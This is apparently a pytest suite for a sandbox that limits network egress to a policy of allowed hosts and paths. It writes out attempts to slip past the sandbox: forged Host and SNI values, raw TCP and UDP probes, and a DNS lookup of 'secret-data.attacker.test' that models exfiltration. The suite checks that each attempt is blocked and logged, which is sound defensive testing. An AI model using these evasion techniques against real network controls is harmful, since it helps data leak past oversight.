"""Programs that know nothing of proxies, and tries to get past the names: all of it in a jail, by an unprivileged user."""

import json
import subprocess

import pytest

from lib import paths
from world import UNPRIVILEGED, World

POLICY = """\
exeat: 1
task: programs
allow:
  - name: read the api
    host: api.test
    paths: [/, /v1/**]
  - name: plain http
    host: plain.test
    scheme: http
    paths: [/**]
"""

PYTHON_SSL = """
import socket, ssl, sys
host, path = sys.argv[1:3]
with ssl.create_default_context().wrap_socket(socket.create_connection((host, 443), 10), server_hostname=host) as s:
    s.sendall(f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    while data := s.recv(4096): sys.stdout.write(data.decode())
"""
NODE_FETCH = "fetch(`https://${process.argv[1]}${process.argv[2]}`).then(async r => console.log(r.status, await r.text()))"
NODE_HTTPS = ("require('https').get(`https://${process.argv[1]}${process.argv[2]}`, "
              "r => { console.log(r.statusCode); r.pipe(process.stdout); })")
JAVA = """
import java.io.*; import java.net.*;
public class Get { public static void main(String[] a) throws Exception {
    HttpURLConnection c = (HttpURLConnection) new URL("https://" + a[0] + a[1]).openConnection(Proxy.NO_PROXY);
    InputStream in = c.getResponseCode() < 400 ? c.getInputStream() : c.getErrorStream();
    System.out.print(c.getResponseCode() + " " + new String(in.readAllBytes())); } }
"""
GO = """
package main
import ("crypto/tls"; "fmt"; "io"; "os")
func main() {
    c, err := tls.Dial("tcp", os.Args[1]+":443", nil)
    if err != nil { fmt.Println(err); os.Exit(1) }
    fmt.Fprintf(c, "GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n", os.Args[2], os.Args[1])
    io.Copy(os.Stdout, c)
}
"""


def go_program(folder):
    (folder / "get.go").write_text(GO)
    subprocess.run(["go", "build", "-o", "get-go", "get.go"], cwd=folder, check=True, timeout=300,
                   env={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(folder), "GOCACHE": str(folder / "cache"), "GO111MODULE": "off"})
    return ["./get-go"]


def java_program(folder):
    (folder / "Get.java").write_text(JAVA)
    subprocess.run(["javac", "Get.java"], cwd=folder, check=True, timeout=300)
    return ["java", "-cp", ".", "Get"]


# Each is called with a host and a path and prints what came, the status among it.
PROGRAMS = {
    "curl --noproxy": ("curl", lambda folder: ["sh", "-c", "curl -sS -i --noproxy '*' \"https://$1$2\"", "sh"]),
    "curl with NO_PROXY": ("curl", lambda folder: ["sh", "-c", "NO_PROXY='*' no_proxy='*' curl -sS -i \"https://$1$2\"", "sh"]),
    "curl without variables": ("curl", lambda folder: ["sh", "-c", "env -i PATH=$PATH curl -sS -i \"https://$1$2\"", "sh"]),
    "wget": ("wget", lambda folder: ["sh", "-c", "wget --no-proxy -q -S -O- --content-on-error \"https://$1$2\" 2>&1", "sh"]),
    "openssl": ("openssl", lambda folder: ["sh", "-c", "printf 'GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' \"$2\" "
                                           "\"$1\" | openssl s_client -quiet -verify_return_error -connect \"$1:443\" "
                                           "-servername \"$1\" 2>/dev/null", "sh"]),
    "python": ("/usr/bin/python3", lambda folder: ["/usr/bin/python3", "-c", PYTHON_SSL]),
    "node fetch": ("node", lambda folder: ["node", "-e", NODE_FETCH]),
    "node https": ("node", lambda folder: ["node", "-e", NODE_HTTPS]),
    "java": ("javac", java_program),
    "go": ("go", go_program),
}


@pytest.fixture(scope="module")
def world(nginx, plain_origin, origin_ca):
    one = World(UNPRIVILEGED if paths.IS_ROOT else None)
    one.options = one.configure(origin_ca.cert, [f"api.test:443:127.0.0.1:{nginx.tls_port}",
                                                 f"blocked.test:443:127.0.0.1:{nginx.tls_port}",
                                                 f"plain.test:80:127.0.0.1:{plain_origin.port}"])
    (one.top / "policy.yaml").write_text(POLICY)
    one.made = {}
    yield one
    one.close()


@pytest.fixture(params=PROGRAMS)
def program(request, world):
    needs, make = PROGRAMS[request.param]
    if not paths.program(needs):
        pytest.skip(f"{needs} is not installed")
    if request.param not in world.made:
        world.made[request.param] = make(world.project)

    def ask(host, path):
        done = world.jail(*world.made[request.param], host, path, options=world.options)
        return done.stdout + done.stderr

    return ask


def test_a_program_that_ignores_proxies_gets_what_is_allowed(world, nginx, program):
    said = program("api.test", "/v1/x")
    assert '{"path":"/v1/x","method":"GET"}' in said
    assert nginx.log()[-1]["sni"] == "api.test"
    record = world.records("request")[-1]
    assert (record["verdict"], record["url"]) == ("allow", "https://api.test/v1/x")


def test_a_program_that_ignores_proxies_is_told_what_is_not(world, nginx, program):
    with nginx.watch() as arrived:
        assert "path-not-allowed" in program("api.test", "/private")
        assert "host-not-allowed" in program("blocked.test", "/")
    assert arrived == []


def python(world, code, *arguments, **keywords):
    return world.jail("/usr/bin/python3", "-c", code, *arguments, options=world.options, **keywords)


TRY = """
import socket, ssl, sys, time
began = time.monotonic()
def say(*words): print(*words)
def tcp(address, port, data=b'', family=socket.AF_INET, wait=20):
    s = socket.socket(family)
    s.settimeout(wait)
    try:
        s.connect((address, port))
        s.sendall(data)
        got = b''
        while part := s.recv(4096): got += part
        say('GOT', got.decode(errors='replace'))
    except OSError as e:
        say('FAILED', type(e).__name__, e)
    say('SECONDS', round(time.monotonic() - began, 1))
"""


def seconds(done):
    return float(done.stdout.rpartition("SECONDS")[2])


@pytest.mark.parametrize("code", [
    "tcp('192.0.2.7', 22)", "tcp('2001:db8::7', 22, family=socket.AF_INET6)", "tcp('nowhere.test', 22)", "tcp('api.test', 22)",
    "tcp('192.0.2.7', 5432, b'\\0\\0\\0\\x08\\x04\\xd2\\x16\\x2f')", "tcp('api.test', 25)"])
def test_what_is_no_http_ends_at_once_and_is_on_record(world, nginx, code):
    with nginx.watch() as arrived:
        done = python(world, TRY + code)
    assert done.returncode == 0 and "GOT SSH" not in done.stdout, done.stderr
    assert seconds(done) < 10
    ends = [r for r in world.records() if r.get("reason") in ("port-denied", "tunnel-not-tls")]
    assert ends and ends[-1]["verdict"] == "block"
    assert arrived == []


@pytest.mark.parametrize("host_header", ["api.test", "plain.test", "192.0.2.7"])
def test_a_forged_host_on_an_address_is_blocked(world, nginx, host_header):
    with nginx.watch() as arrived:
        done = python(world, TRY + f"tcp('192.0.2.7', 80, b'GET / HTTP/1.1\\r\\nHost: {host_header}\\r\\nConnection: close\\r\\n\\r\\n')")
    assert "GOT HTTP/1.1 4" in done.stdout or "FAILED" in done.stdout, done.stdout
    assert "GOT HTTP/1.1 2" not in done.stdout
    assert arrived == []


def test_a_forged_sni_on_an_address_is_blocked(world, nginx):
    with nginx.watch() as arrived:
        done = python(world, TRY + """
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
try:
    s = context.wrap_socket(socket.create_connection(('192.0.2.7', 443), 10), server_hostname='api.test')
    s.sendall(b'GET /v1/x HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n')
    say('GOT', s.recv(4096).decode())
except OSError as e:
    say('FAILED', e)
""")
    assert "HTTP/1.1 2" not in done.stdout
    assert arrived == []


def test_sni_of_one_name_and_host_of_another_is_blocked(world, nginx):
    with nginx.watch() as arrived:
        done = python(world, TRY + """
context = ssl.create_default_context()
s = context.wrap_socket(socket.create_connection(('api.test', 443), 10), server_hostname='api.test')
s.sendall(b'GET / HTTP/1.1\\r\\nHost: blocked.test\\r\\nConnection: close\\r\\n\\r\\n')
say('GOT', s.recv(4096).decode())
""")
    assert "authority-mismatch" in done.stdout, done.stdout + done.stderr
    assert arrived == []


def test_a_synthetic_address_that_no_name_has_is_closed(world, nginx):
    with nginx.watch() as arrived:
        done = python(world, TRY + "tcp('198.18.200.200', 443, b'\\x16\\x03\\x01')")
    assert "GOT HTTP" not in done.stdout and seconds(done) < 15
    assert arrived == []


def test_the_capture_port_itself_leads_nowhere(world, nginx):
    with nginx.watch() as arrived:
        done = python(world, TRY + "tcp('127.0.0.1', 3129, b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')")
    assert "HTTP/1.1 2" not in done.stdout and seconds(done) < 15
    assert arrived == []


def test_plain_http_is_judged_by_its_host(world, plain_origin):
    plain_origin.forget()
    done = python(world, TRY + "tcp('plain.test', 80, b'GET /x HTTP/1.1\\r\\nHost: plain.test\\r\\nConnection: close\\r\\n\\r\\n')")
    assert "GOT HTTP/1.1 200" in done.stdout, done.stdout + done.stderr
    assert [r.line for r in plain_origin.requests] == ["GET /x HTTP/1.1"]
    done = python(world, TRY + "tcp('plain.test', 80, b'DELETE /x HTTP/1.1\\r\\nHost: plain.test\\r\\nConnection: close\\r\\n\\r\\n')")
    assert "method-not-allowed" in done.stdout
    assert len(plain_origin.requests) == 1


UDP = """
import socket, sys, time
began = time.monotonic()
for address, port, family in (('192.0.2.9', 443, socket.AF_INET), ('8.8.8.8', 123, socket.AF_INET), ('2001:db8::9', 443, socket.AF_INET6)):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.connect((address, port))
        s.send(b'probe')
        print('GOT', s.recv(100))
    except OSError as e:
        print('FAILED', e)
print('SECONDS', round(time.monotonic() - began, 1))
"""


def test_udp_ends_at_once_and_its_destinations_are_on_record(world):
    done = python(world, UDP)
    assert "GOT" not in done.stdout and done.stdout.count("FAILED") == 3, done.stdout + done.stderr
    assert seconds(done) < 3
    text = json.dumps(world.records("udp"))
    for destination in ("192.0.2.9", "8.8.8.8", "2001:db8::9"):
        assert destination in text


DNS = """
import socket, struct, sys
def query(name, kind, tcp=False, server='8.8.8.8', family=socket.AF_INET):
    packet = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1)
    s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((server, 53))
    if tcp:
        s.sendall(struct.pack('>H', len(packet)) + packet)
        stream = s.makefile('rb')
        answer = stream.read(struct.unpack('>H', stream.read(2))[0])
    else:
        s.send(packet)
        answer = s.recv(4096)
    code, count = answer[3] & 15, struct.unpack('>H', answer[6:8])[0]
    data = answer[-4:] if kind == 1 else answer[-16:]
    print(name, kind, 'rcode', code, 'answers', count, socket.inet_ntop(socket.AF_INET if kind == 1 else socket.AF_INET6, data) if count and kind in (1, 28) else '')
query('api.test', 1)
query('api.test', 1, tcp=True)
query('api.test', 28)
query('secret-data.attacker.test', 1)
query('api.test', 65)
query('api.test', 16)
query('api.test', 1, server='2001:4860:4860::8888', family=socket.AF_INET6)
"""


def test_names_are_answered_here_whoever_is_asked(world):
    done = python(world, DNS)
    lines = done.stdout.splitlines()
    assert len(lines) == 7, done.stdout + done.stderr
    first = lines[0].split()[-1]
    assert first.startswith("198.18.") or first.startswith("198.19.")
    assert lines[1] == lines[0] and lines[6] == lines[0], "a name keeps its address, by UDP, TCP and IPv6"
    assert lines[3].split()[-1].startswith("198.1") and lines[3].split()[-1] != first
    assert "rcode 0 answers 0" in lines[4] and "answers 0" in lines[5], "no HTTPS record, no TXT"
    assert "secret-data.attacker.test" in json.dumps(world.records("dns"))


def test_records_say_which_program_asked(world):
    world.jail("curl", "-sS", "-o", "/dev/null", "https://api.test/v1/x?token=abcdef", options=world.options)
    client = world.records("request")[-1]["client"]
    assert client["exe"].endswith("/curl") and isinstance(client["pid"], int)
    assert "curl" in client["args"][0] if isinstance(client["args"], list) else "curl" in client["args"]
    assert "abcdef" not in json.dumps(client)


# --- work as usual ---


def test_a_program_is_compiled_and_runs(world):
    done = world.jail("sh", "-c", "printf '#include <stdio.h>\\nint main(void) { puts(\"made inside\"); }\\n' > hello.c && "
                      "cc -o hello hello.c && ./hello && rm hello hello.c", options=world.options)
    assert done.stdout == "made inside\n", done.stderr


def test_pytest_runs(world):
    (world.project / "test_it.py").write_text("def test_it(tmp_path):\n    (tmp_path / 'x').write_text('y')\n")
    done = world.jail("/usr/bin/python3", "-m", "pytest", "-q", "test_it.py", options=world.options)
    assert "1 passed" in done.stdout, done.stdout + done.stderr


GIT_POLICY = """\
exeat: 1
task: git
allow:
  - {host: git.test, paths: [/git/**]}
  - {name: fetch and push, host: git.test, methods: [POST], paths: [/git/widgets.git/git-upload-pack, /git/widgets.git/git-receive-pack], body: {max: 10MiB}}
"""


def test_git_clones_commits_branches_and_pushes(world, nginx, origin_ca):
    options = world.configure(origin_ca.cert, [f"git.test:443:127.0.0.1:{nginx.tls_port}"])
    policy = world.top / "git.yaml"
    policy.write_text(GIT_POLICY)
    script = """
set -e
git clone -q https://git.test/git/widgets.git
cd widgets
git config user.name Jailed; git config user.email jailed@example.com
git checkout -q -b topic
echo more >> README
git commit -q -a -m 'from the jail'
git push -q -u origin topic
git fetch -q
git stash list; git rebase -q main; git log --format=%s -1
"""
    done = world.jail("sh", "-c", script, options=options, policy=policy)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "from the jail\n"
    bare = nginx.root / "git/widgets.git"
    heads = subprocess.run(["git", "-c", "safe.directory=*", "-C", str(bare), "log", "--format=%s", "-1", "topic"],
                           capture_output=True, text=True, timeout=30)
    assert heads.stdout == "from the jail\n", heads.stderr
